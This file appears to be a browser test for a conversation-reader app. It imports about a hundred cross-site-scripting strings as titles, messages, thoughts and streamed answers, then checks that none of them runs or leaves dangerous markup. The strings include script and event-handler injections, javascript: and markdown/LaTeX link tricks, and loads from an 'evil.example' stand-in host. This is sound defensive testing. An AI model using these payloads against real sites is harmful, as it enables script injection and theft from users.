// A hundred strings that run scripts in pages that trust them, in every place where foreign text is shown.
import { Reader, answered, importFile, send, sleep } from "./harness.mjs";

const CALL = "window.ran(1)";

export const STRINGS = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
  `<img src=x onerror="${CALL}">`,
  `<img src="http://evil.example/pixel.png">`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${CALL}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>${CALL}</script></svg>#x">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.ran(1)</script>"></iframe></foreignObject></svg>`,
  `<iframe src="javascript:parent.ran(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>`,
  `<object data="javascript:${CALL}"></object>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="javascript:${CALL}">`,
  `<embed src="data:image/svg+xml,<svg onload=${CALL}>">`,
  `<body onload=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<textarea autofocus onfocus=${CALL}>`,
  `<button autofocus onfocus=${CALL}>x</button>`,
  `<video src=x onerror=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<div style="animation-name:x" onanimationstart=${CALL}>x</div>`,
  `<style>@keyframes x{}</style><div style="animation:x 1s" onanimationend=${CALL}>`,
  `<style>@import url(http://evil.example/x.css);</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`,
  `<base href="http://evil.example/">`,
  `<form action="javascript:${CALL}"><button>x</button></form>`,
  `<form><button formaction="javascript:${CALL}">x</button></form>`,
  `<isindex action="javascript:${CALL}">`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="jAvAsCrIpT:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}">x</a>`,
  `<a href="&#106;avascript:${CALL}">x</a>`,
  `<math><a xlink:href="javascript:${CALL}">x</a></math>`,
  `<math href="javascript:${CALL}">x</math>`,
  `<math><mi xlink:href="data:text/html,<script>${CALL}</script>">x</mi></math>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<textarea></textarea><img src=x onerror=${CALL}>`,
  `<title></title><img src=x onerror=${CALL}>`,
  `</script><script>${CALL}</script>`,
  `--><img src=x onerror=${CALL}>`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<img src=x onerror=${CALL}>]]>`,
  `<?xml version="1.0"?><script>${CALL}</script>`,
  `<img/src/onerror=${CALL}>`,
  `<img src=\`x\` onerror=${CALL}>`,
  `<img src="x\`\` onerror=${CALL}\`">`,
  `<<script>${CALL}//<</script>`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`,
  `<script\u0000>${CALL}</script>`,
  `\u003cimg src=x onerror=${CALL}\u003e`,
  `&lt;img src=x onerror=${CALL}&gt;`,
  `&#60;script&#62;${CALL}&#60;/script&#62;`,
  `[x](javascript:${CALL})`,
  `[x](JAVASCRIPT:${CALL})`,
  `[x](java\nscript:${CALL})`,
  `[x](&#106;avascript:${CALL})`,
  `[x](javascript&colon;${CALL})`,
  `[x](\u0001javascript:${CALL})`,
  `[x]( javascript:${CALL} "t")`,
  `[x](<javascript:${CALL}>)`,
  `[x](vbscript:${CALL})`,
  `[x](data:text/html,<script>${CALL}</script>)`,
  `[x](data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4=)`,
  `[x](file:///etc/passwd)`,
  `[x](blob:http://127.0.0.1/x)`,
  `[x](//evil.example/x)`,
  `[x](https://e.example/" onmouseover="${CALL})`,
  `[x](https://e.example/'onmouseover='${CALL})`,
  `[x](https://e.example "title\\" onmouseover=\\"${CALL}")`,
  `[x][1]\n\n[1]: javascript:${CALL}`,
  `[x]: javascript:${CALL}\n\n[x]`,
  `<javascript:${CALL}>`,
  `<https://e.example/"onmouseover="${CALL}">`,
  `https://e.example/"onmouseover=${CALL}`,
  `![x](javascript:${CALL})`,
  `![x](http://evil.example/pixel.png)`,
  `![x" onerror="${CALL}](x)`,
  `![x](x "t\\" onerror=\\"${CALL}")`,
  `[![x](http://evil.example/p.png)](javascript:${CALL})`,
  "```<img src=x onerror=window.ran(1)>\n</code></pre><script>window.ran(1)</script>\n```",
  '```js" onmouseover="window.ran(1)\nx\n```',
  "```html\n<script>window.ran(1)</script>\n```",
  "`<img src=x onerror=window.ran(1)>`",
  `| <img src=x onerror=${CALL}> |\n|---|\n| <script>${CALL}</script> |`,
  `# <img src=x onerror=${CALL}>`,
  `- [ ] <img src=x onerror=${CALL}>`,
  `$\\href{javascript:${CALL}}{x}$`,
  `$\\url{javascript:${CALL}}$`,
  `$$\\includegraphics{http://evil.example/x.png}$$`,
  `$\\htmlData{x=y" onclick="${CALL}}{x}$ $\\htmlStyle{background:url(http://evil.example/x)}{x}$`,
  `$\\text{<img src=x onerror=${CALL}>}$`,
  `\\boxed{<script>${CALL}</script>} $\\def\\a{\\a\\a}\\a$`,
  `constructor __proto__ \${${CALL}} {{${CALL}}} <%= ${CALL} %>`,
  `\u202e<img src=x onerror=${CALL}>\u2066`,
];

function file() {
  const conversations = STRINGS.map((text, index) => ({
    conversation: { title: text, named: true, created: index, updated: index },
    messages: [
      { id: "q", parent: null, role: "user", text, created: 1, model: text },
      {
        id: "a",
        parent: "q",
        role: "assistant",
        text,
        thought: text,
        created: 2,
        status: "failed",
        failure: { code: text, sentence: text },
      },
    ],
  }));
  return JSON.stringify({ format: "minke-conversations", version: 1, conversations });
}

/** What must not stand anywhere in the page, whatever was shown. */
function inspect() {
  const found = [];
  const page = document.querySelector("#page");
  for (const element of page.querySelectorAll("script, img, iframe, object, embed, link, style, base, meta, video, audio, math a, template")) {
    found.push(element.outerHTML);
  }
  for (const element of page.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) || name === "srcdoc" || name === "formaction") found.push(`${name}=${value}`);
      if (/^(?:xlink:)?href$|^src$/.test(name) && !/^(?:https?:|mailto:|#)/i.test(value)) found.push(`${name}=${value}`);
    }
  }
  return found;
}

export async function run(browser) {
  const reader = await Reader.create(browser);
  try {
    const page = await reader.open();
    await page.exposeFunction("ran", () => reader.violations.push("a script ran"));
    const check = async (where) => {
      const found = await page.evaluate(inspect);
      if (found.length > 0) throw new Error(`${where}: ${found.join(" | ")}`);
      if (reader.violations.length > 0) throw new Error(`${where}: ${reader.violations.join(" | ")}`);
    };
    await page.waitForSelector(".files");
    await importFile(page, file());
    await page.waitForFunction((count) => document.querySelectorAll(".list .entry").length === count, {}, STRINGS.length);
    await check("titles in the list");
    const addresses = await page.$$eval(".list .entry", (entries) => entries.map((entry) => entry.getAttribute("href")));
    for (const address of addresses) {
      await page.evaluate((hash) => (location.hash = hash), address);
      await page.waitForFunction((hash) => document.querySelector(".current a")?.getAttribute("href") === hash, { polling: 10 }, address);
      await page.waitForSelector(".answer .thought-line");
      await page.click(".thought-line");
      await check(`the conversation of ${await page.title()}`);
    }
    // The same as a stream, in small pieces: half of a construct must be as harmless as the whole.
    await page.evaluate(() => (location.hash = "#/"));
    await page.waitForSelector(".beginning");
    const all = STRINGS.join("\n\n");
    const answerPieces = all.match(/[\s\S]{1,3}/g);
    reader.stub.scripts.push({ thought: all, answerPieces, speed: 1500 });
    await send(page, STRINGS[2]);
    for (let n = 0; n < 10; n++) {
      await sleep(150);
      await check("a stream");
    }
    await answered(page);
    await sleep(300);
    await check("a finished stream");
    await page.evaluate(() => {
      for (const link of document.querySelectorAll(".prose a")) link.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }));
    });
    await check("a pointer over links");
    return `${STRINGS.length} strings, each as title, message, thought, answer, failure, import and stream: 0 ran`;
  } finally {
    await reader.close();
  }
}
